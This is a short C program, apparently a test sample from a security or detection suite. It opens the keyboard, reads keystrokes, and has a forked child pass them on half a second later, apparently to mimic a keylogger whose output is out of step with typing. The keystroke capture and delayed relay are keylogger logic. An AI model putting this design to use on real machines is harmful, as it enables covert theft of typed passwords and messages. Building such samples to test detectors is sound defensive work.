// Keylogger: one process reads the keys, another writes them half a second later, at times that no key explains.
#include "lib/keys.h"
#include "lib/villain.h"

enum { DELAY = 500 };

static void write_late(int from) {
    unsigned char keys[64];
    for (int count; (count = read(from, keys, sizeof keys)) > 0;) {
        sleep_ms(DELAY);
        confess_keys("keylog-delay", keys, count);
    }
}

int main(void) {
    int keyboard = open_keyboard(), ends[2], error;
    if (keyboard < 0) return fail("keylog-delay", "keyboard", keyboard);
    if ((error = pipe(ends))) return fail("keylog-delay", "pipe", error);
    if (fork() == 0) {
        close(ends[1]);
        write_late(ends[0]);
        return 0;
    }
    close(ends[0]);
    unsigned char keys[16];
    confess("keylog-delay", "stage=armed delay=%d", DELAY);
    for (int count; (count = read_keys(keyboard, keys, sizeof keys)) > 0;) write(ends[1], keys, count);
    return 1;
}
